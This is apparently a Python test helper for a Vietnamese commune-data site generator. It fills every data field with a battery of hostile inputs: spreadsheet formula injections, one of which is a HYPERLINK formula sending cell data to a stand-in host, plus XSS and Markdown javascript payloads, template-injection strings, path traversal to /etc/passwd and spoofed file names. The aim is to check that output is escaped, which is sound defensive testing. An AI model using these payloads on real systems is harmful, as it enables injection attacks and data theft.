"""Texts that attack whoever shows them, and the sample commune written full of them."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

from pydantic import ValidationError

from generator.canonical import as_yaml
from generator.core import Loc, has_error
from generator.fields.base import Model, given
from generator.fields.text import Prose
from generator.fields.titles import model_inside
from generator.load import load_commune, load_province
from generator.load.data_files import model_at
from generator.load.yaml_tree import read_yaml
from generator.province import Province
from generator.tidy import data_files
from generator.words.fold import fold
from generator.words.unseen import seen
from tests.conftest import CONTENT

FORMULAS = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    '"=1+1',
    "'=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u00a0＝1+1",
    '=HYPERLINK("https://x.example/?"&A1,"bấm")',
]
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<iframe src=https://x.example></iframe>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<base href=https://x.example/><meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<object data=data:text/html,x></object><embed src=x><link rel=stylesheet href=x>",
    "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>p</p>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "\"><b>x</b>",
    "`onmouseover=alert(1)",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--", "-->", "<!--[if IE]>", "]]>", "<![CDATA[", "<?php echo 1 ?>",
    "\\\"><script>alert(1)//",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert`1`)",
    "[a](java\tscript:alert`1`)",
    "[a](&#106;avascript:alert`1`)",
    "[a](&#x6A;&#x61;vascript&colon;alert`1`)",
    "[a](javascript&#58;alert`1`)",
    "[a]( javascript:alert`1` )",
    "[a](\x01javascript:alert`1`)",
    "[a](\u200bjavascript:alert`1`)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    '[a](https://x.example/"onmouseover="alert`1`)',
    "[a](https://x.example 'onmouseover=alert`1`')",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "![a](javascript:alert`1`)",
    '![a"onerror="alert`1`](x)',
    "<javascript:alert`1`>",
    "<javascript://x.example/%0aalert`1`>",
    "# <script>alert(1)</script> {: onclick=alert(1) }",
    "|a|\n|-|\n|<script>alert(1)</script>|",
]
OTHER = [
    "{{7*7}} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }} %s %(x)s {0}",
    "a\x00b",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\u00ad\u2060",
    "ﷺ" * 5 + "Z\u0351\u036f" * 8,
    "W" * 300,
    "no", "null", "~", "&a *a !!python/object:x", "--- # x", "- a: b", "0123", "7:30", "{a: 1}", "? x",
    '"x","y"\n"z";,\t|',
    "👩‍👩‍👧‍👦 🇻🇳 \U0001f9ff",
    "../../../etc/passwd", "%2e%2e%2f%00", "C:\\x\\y", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "[TOC]", "klzzwxh:0000", "\x02klzzwxh:0\x03", ' autocomplete="off"',
]  # fmt: skip
BATTERY = [*FORMULAS, *HTML, *MARKDOWN, *OTHER]
PARTS = 4
KEPT = ("1.001193", "1.012812", "1.001622")
NUMBERS = ["1/'onx=alert(1)", "{{7*7}}", "javascript:alert(1)", "&lt;b&gt;", "=1+1", "--!>"]
LINKS = [
    "https://x.example/'onmouseover='alert(1)",
    "https://x.example/&quot;onmouseover=alert(1)",
    "http://x.example/javascript:alert(1)?a=1&b={{7*7}}#%22",
    "HTTPS://x.example/`x`\\..\\..",
]
MAILS = ["%22onx%3d@x.example", "a%0d%0ab+c@x.example"]
PHONES = ["0208 (385)-5123", "+84 208.3855.123"]
FILES = ["tep/a b#c&d'e;{{7-7}}.pdf", "tep/%2e%2e%2f=1+1＜b＞.pdf", "tep/Đơn đề nghị (1), `x`@+~!$.pdf"]
PICTURES = ["tep/a b#c&d'e;{{7-7}}.jpg", "tep/'onerror=alert(1) x=.jpg"]
TYPED = [NUMBERS, LINKS, MAILS, PHONES, FILES, PICTURES]
LONG = "W" * 10_000 + " " + "<b>[" * 2_499
"""As long as prose may be: one word without end, and marks that open and never close."""


class _Line(Model):
    """One text in a file."""

    text: Prose = given("chu", "Chữ", "Chữ.")


def readable(text: str) -> bool:
    """Whether a text passes the reader of files at all (control characters may be refused there)."""
    written = as_yaml(_Line.model_construct(text=text))
    return not read_yaml(written, "a.yml").problems


def chunks() -> list[str]:
    """The whole battery in texts short enough for every field, each beginning with another formula."""
    others = list(filter(readable, [*HTML, *MARKDOWN, *OTHER]))
    parts = [others[start::PARTS] for start in range(PARTS)]
    starts = dict.fromkeys(map(seen, filter(readable, FORMULAS)))
    texts = ["\n\n".join([start, *parts[index % PARTS]]) for index, start in enumerate(starts)]
    return list({fold(text): text for text in texts}.values())


def write_commune(root: Path, turn: int | None) -> Path:
    """A copy of `content/` with only the sample commune, every text of every file replaced.

    Each field gets a text of its type; with every turn the next one. Without a turn all stays as it is.
    """
    shutil.copytree(CONTENT / "tinh", root / "tinh", ignore=_most_procedures)
    (root / "tinh" / "tu-ngu.yml").unlink()  # one text for all its words would say each of them twice
    shutil.copytree(CONTENT / "xa" / "xa-mau", root / "xa" / "xa-mau")
    _make_files(root / "xa" / "xa-mau")
    for path in data_files(root):
        model = model_at(path)
        assert model
        tree: Any = read_yaml(path.read_bytes(), str(path)).tree
        _shorten(path, tree)
        if turn is not None:
            _replace_all(model, tree, turn)
        path.write_bytes(as_yaml(model.model_validate(tree)))
    return root


def _replace_all(model: type[Model], tree: Any, turn: int) -> None:
    """Each text by the order of its key and its place in the list, so that neighbours differ."""
    order: dict[Loc, int] = {}
    for loc in list(leaves(tree)):
        key = tuple(part for part in loc if isinstance(part, str))
        index = sum(part for part in loc if isinstance(part, int))
        _replace(model, tree, loc, turn + order.setdefault(key, len(order)) + index)


def leaves(tree: Any, loc: Loc = ()) -> Iterator[Loc]:
    """Where each single value of a tree stands."""
    if isinstance(tree, str):
        yield loc
    for key, value in tree.items() if isinstance(tree, dict) else ():
        yield from leaves(value, (*loc, key))
    for index, value in enumerate(tree if isinstance(tree, list) else ()):
        yield from leaves(value, (*loc, index))


def get_at(tree: Any, loc: Loc) -> Any:
    for part in loc:
        tree = tree[part]
    return tree


def set_at(tree: Any, loc: Loc, value: str) -> None:
    get_at(tree, loc[:-1])[loc[-1]] = value


def field_at(model: Any, loc: Loc) -> tuple[Any, str]:
    """The innermost model on the way to a value, and the value's key in it."""
    keys = [part for part in loc if isinstance(part, str)]
    for key in keys[:-1]:
        fields = {info.alias or name: info for name, info in model.model_fields.items()}
        model = model_inside(fields[key].annotation)
    return model, keys[-1]


def _replace(model: type[Model], tree: Any, loc: Loc, turn: int) -> None:
    texts = accepted(*field_at(model, loc))
    # The kinds that a duty asks for, and the pages that were withdrawn.
    decides = loc[:1] + loc[2:3] in (("nghia_vu", "loai"), ("thu_hoi", "tep"))
    if texts and not decides and get_at(tree, loc) != LONG:
        set_at(tree, loc, texts[turn % len(texts)])


@cache
def accepted(model: type[Model], key: str) -> tuple[str, ...]:
    """What a field takes: the chunks where it is free text, else the hostile texts of its type."""
    for group in (chunks(), *TYPED):
        taken = tuple(text for text in group if _takes(model, key, text))
        if taken:
            return taken
    return ()


def _takes(model: type[Model], key: str, text: str) -> bool:
    """Whether the field itself has nothing against the text, written alone or in a list."""
    return (text not in [*FILES, *PICTURES] or _loads(text)) and any(
        not _errors(model, key, value) for value in (text, [text])
    )


def _errors(model: type[Model], key: str, value: Any) -> list[Any]:
    try:
        model.model_validate({key: value})
    except ValidationError as error:
        return [found for found in error.errors() if found["loc"][0] == key]
    return []


@cache
def _loads(name: str) -> bool:
    """Whether a commune with a file of this name loads."""
    with TemporaryDirectory() as folder:
        root = Path(folder, "xa-mau")
        shutil.copytree(CONTENT / "xa" / "xa-mau", root)
        _make_file(root, name)
        _, problems = load_commune(root, _province())
    return not has_error(problems)


@cache
def _province() -> Province:
    province, _ = load_province(CONTENT / "tinh")
    assert province
    return province


def _most_procedures(folder: str, names: list[str]) -> list[str]:
    return [n for n in names if folder.endswith("thu-tuc") and not n.startswith(KEPT)]


def _shorten(path: Path, tree: Any) -> None:
    """Fewer units and procedures: a fault shows in two as well as in a hundred; one text as long as can be."""
    if path.name == "don-vi.yml":
        tree["don_vi"] = [unit for unit in tree["don_vi"] if unit["ma"] < "02000"]
    if path.name == "xa.yml":
        tree["van_hoa"] = LONG
    if path.name == "can-bo.yml":
        for official in tree["can_bo"]:
            official["thu_tuc"] = [code for code in official.get("thu_tuc", []) if code in KEPT]
    if path.name == "thu-tuc.yml":
        tree["thu_tuc"] = [row for row in tree["thu_tuc"] if row["ma"] in KEPT]
    for post in tree["can_bo"] if path.name == "can-bo.yml" else ():
        post.pop("thu_tuc", None)
    if path.name == "ket-qua-ho-so.yml":
        tree["ket_qua"] = tree["ket_qua"][: len(chunks())]
        tree["xin_loi"] = [{**row, "ma": KEPT[0]} for row in tree["xin_loi"]]


def _make_files(folder: Path) -> None:
    """The attachments under their hostile names, as far as a name may be so."""
    for name in filter(_loads, [*FILES, *PICTURES]):
        _make_file(folder, name)


def _make_file(folder: Path, name: str) -> None:
    pictures = sorted(folder.glob("tep/du-an/*.jpg"))
    shutil.copy(pictures[0] if name.endswith(".jpg") else folder / "tep" / "45-tb-ubnd.pdf", folder / name)
